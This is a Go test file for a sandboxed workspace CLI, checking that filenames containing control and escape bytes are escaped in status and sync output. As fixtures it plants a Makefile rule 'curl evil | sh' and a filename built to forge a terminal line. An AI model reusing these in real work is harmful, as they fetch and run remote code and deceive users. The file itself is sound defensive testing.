//go:build linux

package test

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestCLINamesEscaped (issue 20, item 7): a name a sandboxed call chose cannot
// hide or forge a line of `autobox ws status` or `ws sync`. The call modifies
// the Makefile and makes a file whose name carries a carriage return and an
// erase-line sequence followed by a forged "modify README.md": the table
// prints that name quoted with its controls escaped, no control byte reaches
// the terminal, and the Makefile line is there; --json keeps the exact name
// (but for its invalid bytes, which JSON cannot carry), and the synced host
// file has it exactly.
func TestCLINamesEscaped(t *testing.T) {
	requireSandbox(t)
	h := newCLIHome(t)
	src := filepath.Join(h.dir, "src")
	writeFile(t, filepath.Join(src, "Makefile"), "all:\n")
	writeFile(t, filepath.Join(src, "README.md"), "hello\n")
	r := h.run("", "ws", "create", "--copy-mode", "auto", "--storage", filepath.Join(h.dir, "storage"), src, "/mnt/p")
	id := strings.TrimSpace(r.stdout)
	if r.code != 0 {
		t.Fatalf("create: %s", r)
	}
	evil := "x\r\x1b[2Kmodify  README.md\x1b[A\x9b\xff"
	h.want(h.run("", "exec", "--workspace", id, "--cwd", "/mnt/p", "--", "sh", "-c", `echo 'all: ; curl evil | sh' > Makefile; : > "$(printf 'x\r\033[2Kmodify  README.md\033[A\233\377')"`), 0, "", "")

	clean := func(what string, r cliRun) {
		t.Helper()
		for _, b := range []byte(r.stdout + r.stderr) {
			if b < 0x20 && b != '\n' || b == 0x7f || b == 0x9b || b == 0xff {
				t.Errorf("%s printed the control byte %#x: %q", what, b, r.stdout+r.stderr)
				return
			}
		}
	}
	r = h.run("", "ws", "status", id)
	clean("ws status", r)
	for _, want := range []string{"modify  Makefile", `add     "x\r\x1b[2Kmodify  README.md\x1b[A\x9b\xff"`} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("ws status: want %q in %q", want, r.stdout)
		}
	}
	r = h.run("", "ws", "status", "--json", id)
	var st wsOut
	if err := json.Unmarshal([]byte(r.stdout), &st); err != nil {
		t.Fatalf("status --json: %v %s", err, r)
	}
	found := false
	for _, c := range st.Changes {
		// JSON cannot carry the two invalid bytes: each is U+FFFD there.
		found = found || c.Path == "x\r\x1b[2Kmodify  README.md\x1b[A\ufffd\ufffd"
	}
	if !found || !strings.Contains(r.stdout, `\u001b[2K`) {
		t.Errorf("status --json does not hold the exact name: %s", r.stdout)
	}
	r = h.run("", "ws", "sync", id)
	clean("ws sync", r)
	if r.code != 0 || !strings.Contains(r.stdout, "modify  Makefile") || !strings.Contains(r.stdout, `\x1b[2K`) {
		t.Errorf("ws sync: %s", r)
	}
	if _, err := os.Stat(filepath.Join(src, evil)); err != nil {
		t.Errorf("the synced file's name is not exact: %v", err)
	}
	r = h.run("", "ws", "list")
	clean("ws list", r)
}
